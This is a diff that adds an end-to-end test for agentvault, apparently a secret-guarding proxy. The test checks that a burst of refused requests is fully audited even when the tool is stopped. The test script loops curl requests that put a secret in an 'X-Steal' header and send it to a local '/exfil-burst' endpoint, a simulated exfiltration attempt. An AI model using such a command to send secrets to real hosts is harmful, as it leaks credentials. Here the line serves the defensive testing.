@@ -262,6 +262,36 @@ describe('e2e: run --placeholders', () => {
     assert.equal(world.upstream.last('/scoped').headers['x-s'], SCOPED_CANARY)
   })
 
+  it('a burst of refused requests is audited whole, in one chain, also when agentvault is stopped right after', async () => {
+    const readDenied = async () =>
+      (await readFile(join(world.home, 'audit.log'), 'utf8'))
+        .trim()
+        .split('\n')
+        .map((line) => JSON.parse(line) as Record<string, unknown>)
+        .filter((record) => record.outcome === 'denied' && String(record.references).includes('SCOPED'))
+    const before = (await readDenied()).length
+    const burst = 25
+    const url = world.upstream.url('/exfil-burst', {secure: true}) // 127.0.0.1: S may not go there
+    const script = [
+      `for i in $(seq ${burst}); do curl -sS -o /dev/null -w '%{http_code}\\n' -H "X-Steal: $S" "${url}" & done`,
+      'wait',
+      'echo sent',
+      'exec sleep 30',
+    ].join('; ')
+    const child = startCli(['run', '--placeholders', '--env', K, '--env', S, '--', 'sh', '-c', script], {env})
+    const done = collect(child)
+    const output = watchOutput(child)
+    await output.until((text) => text.includes('sent\n'), 'the burst')
+    // Every request has had its 403, so every refusal is queued for the audit log: stop now.
+    child.kill('SIGTERM')
+    const result = await done
+    assert.equal(result.code, 143, result.stderr)
+    assert.deepEqual(result.stdout.trim().split('\n'), [...Array.from({length: burst}, () => '403'), 'sent'])
+    assert.equal((await readDenied()).length - before, burst, 'one audit line per refused request')
+    const verify = await world.cli(['audit', 'verify'], {env: {}})
+    assert.equal(verify.code, 0, verify.stdout + verify.stderr)
+  })
+
   it('the real server is verified (no caCert: 502) and the SSRF guard holds (private address: 403, audited)', async () => {
     const before = world.upstream.requests.length
     const url = world.upstream.url('/verify', {secure: true})
